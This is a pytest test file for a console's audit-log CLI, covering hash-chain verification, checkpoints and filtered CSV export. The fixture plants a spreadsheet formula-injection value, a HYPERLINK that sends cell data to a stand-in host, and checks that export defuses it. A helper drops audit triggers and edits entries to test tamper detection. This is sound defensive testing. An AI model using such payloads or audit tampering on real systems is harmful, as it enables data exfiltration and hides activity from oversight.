"""console-admin audit-verify, audit-checkpoint and audit-export, as administrators type them."""

from __future__ import annotations

import csv
from datetime import date
from pathlib import Path

import pytest
from sqlalchemy import Engine

from console import cli, cli_audit, db
from console.models import Role
from console.services import access
from console.services.access import accounts, audit
from console.services.access.audit import AuditAction
from tests.cli.test_accounts_cli import PASSWORD, run

EXIT_USAGE = 2
ADMIN = access.Actor(
    user_id=None, person_id=None, organization_id=None, role=Role.ADMIN, username="a"
)


@pytest.fixture
def database(db_path: Path, engine: Engine) -> Path:
    """An account, two sign-ins and a reading of a case with a reason typed as a formula."""
    with db.session_scope(engine) as s:
        accounts.create_user(s, ADMIN, "bob", Role.OFFICER, PASSWORD)
    for _ in range(2):
        with db.session_scope(engine) as s:
            access.login(s, "bob", PASSWORD)
    with db.session_scope(engine) as s:
        bob = access.login(s, "bob", PASSWORD)
        audit.record_read(s, bob, "cases", 7, '=HYPERLINK("http://x/?"&A1,"x")')
    engine.dispose()
    return db_path


def tamper(db_path: Path, *statements: str) -> None:
    engine = db.open_database(db.sqlite_url(db_path)).engine
    with engine.begin() as conn:
        conn.exec_driver_sql("DROP TRIGGER IF EXISTS audit_events_no_update")
        conn.exec_driver_sql("DROP TRIGGER IF EXISTS audit_events_no_delete")
        for statement in statements:
            conn.exec_driver_sql(statement)
    engine.dispose()


def test_audit_verify_exit_codes(capsys, monkeypatch, database) -> None:
    code, out, err = run(capsys, monkeypatch, database, "audit-verify")
    assert code == 0 and out.startswith("audit log intact: 5 entries, head ") and err == ""
    tamper(database, "UPDATE audit_events SET username = 'someone else' WHERE id = 2")
    code, out, err = run(capsys, monkeypatch, database, "audit-verify")
    assert code == cli_audit.EXIT_BROKEN and out == ""
    assert err == (
        "console-admin: audit log broken at entry 2: its content was changed after it was written\n"
    )


def test_a_head_noted_earlier_passes_after_an_ordinary_sign_in(capsys, monkeypatch, database):
    head = run(capsys, monkeypatch, database, "audit-verify")[1].split()[-1]
    engine = db.open_database(db.sqlite_url(database)).engine
    with db.session_scope(engine) as s:
        access.login(s, "bob", PASSWORD)
    engine.dispose()
    assert run(capsys, monkeypatch, database, "audit-verify", "--expect-head", head)[0] == 0
    code, _, err = run(capsys, monkeypatch, database, "audit-verify", "--expect-head", "ab" * 32)
    assert code == cli_audit.EXIT_BROKEN
    assert err.startswith(f"console-admin: no entry of the audit log has the head hash {'ab' * 32}")


def test_a_checkpoint_is_printed_and_checked(capsys, monkeypatch, database) -> None:
    code, out, err = run(capsys, monkeypatch, database, "audit-checkpoint")
    assert code == 0
    checkpoint = out.strip()
    assert checkpoint.startswith("5:") and len(checkpoint) == len("5:") + 20 + 3
    assert err.startswith("(entry 5 of 5, written ") and checkpoint in err
    code, out, err = run(capsys, monkeypatch, database, "audit-verify", "--checkpoint", checkpoint)
    assert (code, err) == (0, "") and out.startswith("audit log intact: 5 entries")

    tamper(
        database,
        "DELETE FROM audit_events WHERE id = 5",
        "UPDATE audit_anchor SET last_event_id = 4, event_count = 4, "
        "last_hash = (SELECT hash FROM audit_events WHERE id = 4)",
    )
    assert run(capsys, monkeypatch, database, "audit-verify")[0] == 0  # the anchor was fixed
    code, out, err = run(
        capsys, monkeypatch, database, "audit-verify", "--checkpoint", "1:" + "0" * 20 + ":00"
    )
    assert code == EXIT_USAGE and err.count("\n") == 1 and "miscopied" in err
    code, out, err = run(capsys, monkeypatch, database, "audit-verify", "--checkpoint", checkpoint)
    assert code == cli_audit.EXIT_BROKEN and out == "" and err.count("\n") == 1
    assert err.startswith(
        f"console-admin: audit log broken at entry 5: entry 5 of checkpoint {checkpoint} is "
        "missing (the log ends at entry 4, written "
    )


@pytest.mark.parametrize(
    "typed", ["12345", "5:abc:00", "five:3f9a2c7d1e0b4a56e7c1:2f", "12345:3f9a2c7d1e0b4a56e7c1:2e"]
)
def test_a_malformed_checkpoint_is_one_line(capsys, monkeypatch, database, typed: str) -> None:
    code, out, err = run(capsys, monkeypatch, database, "audit-verify", "--checkpoint", typed)
    assert code == EXIT_USAGE and out == "" and err.count("\n") == 1
    assert err.startswith("console-admin audit-verify: error: argument --checkpoint: ")


def test_no_checkpoint_of_a_broken_log(capsys, monkeypatch, database) -> None:
    tamper(database, "UPDATE audit_events SET username = 'x' WHERE id = 3")
    code, out, err = run(capsys, monkeypatch, database, "audit-checkpoint")
    assert code == cli_audit.EXIT_BROKEN and out == ""
    assert err.endswith("; no checkpoint was taken\n") and err.count("\n") == 1


def test_audit_export_writes_the_filtered_entries_inert(
    capsys, monkeypatch, database, tmp_path: Path
) -> None:
    out_file = tmp_path / "registro.csv"
    today = date.today().isoformat()
    code, out, err = run(
        capsys, monkeypatch, database, "audit-export", "--out", str(out_file),
        "--user", "bob", "--action", "read", "--from", today, "--to", today,
    )  # fmt: skip
    assert (code, out, err) == (0, f"1 audit entries written to {out_file}\n", "")
    with out_file.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert [(r["username"], r["action"], r["entity"], r["entity_id"]) for r in rows] == [
        ("bob", "read", "cases", "7")
    ]
    assert rows[0]["justification"] == '\'=HYPERLINK("http://x/?"&A1,"x")'
    assert list(rows[0]) == list(audit.CSV_COLUMNS)

    code, *_ = run(
        capsys, monkeypatch, database, "audit-export", "--out", str(out_file),
        "--entity", "users", "--action", "create",
    )  # fmt: skip
    with out_file.open(encoding="utf-8-sig", newline="") as handle:
        (created,) = list(csv.DictReader(handle))
    assert "username: bob" in created["details"] and "role: officer" in created["details"]
    assert "password_hash: (recorded, not shown)" in created["details"]


@pytest.mark.parametrize(
    ("arguments", "says"),
    [
        (("--user", "nobody"), "no entry of the audit log is by the account 'nobody'"),
        (("--entity", "castles"), "no entry of the audit log is about 'castles'"),
        (("--from", "2026-12-05", "--to", "2026-12-01"), "--to 2026-12-01 is before --from"),
    ],
)
def test_audit_export_refuses_bad_filters_in_one_line(
    capsys, monkeypatch, database, tmp_path: Path, arguments: tuple[str, ...], says: str
) -> None:
    out_file = tmp_path / "registro.csv"
    argv = ("audit-export", "--out", str(out_file), *arguments)
    code, out, err = run(capsys, monkeypatch, database, *argv)
    assert code == cli.EXIT_FAILED and out == "" and err.count("\n") == 1 and says in err
    assert not out_file.exists()


@pytest.mark.parametrize(
    ("arguments", "says"),
    [
        (("--out", "registro.pdf"), "--out must name a .csv file"),
        (("--out", "missing/registro.csv"), "folder does not exist"),
    ],
)
def test_audit_export_refuses_a_bad_file_in_one_line(
    capsys, monkeypatch, database, tmp_path: Path, arguments: tuple[str, ...], says: str
) -> None:
    monkeypatch.chdir(tmp_path)
    code, _, err = run(capsys, monkeypatch, database, "audit-export", *arguments)
    assert code == cli.EXIT_FAILED and err.count("\n") == 1 and says in err


def test_audit_export_bad_usage_is_one_line(capsys, monkeypatch, database, tmp_path) -> None:
    for argv in (("--action", "dance"), ("--from", "5/12/2026")):
        code, _, err = run(
            capsys, monkeypatch, database, "audit-export", "--out", str(tmp_path / "a.csv"), *argv
        )
        assert code == EXIT_USAGE and err.count("\n") == 1


def test_the_actions_offered_are_those_recorded() -> None:
    assert set(cli_audit.ACTIONS) == {action.value for action in AuditAction}
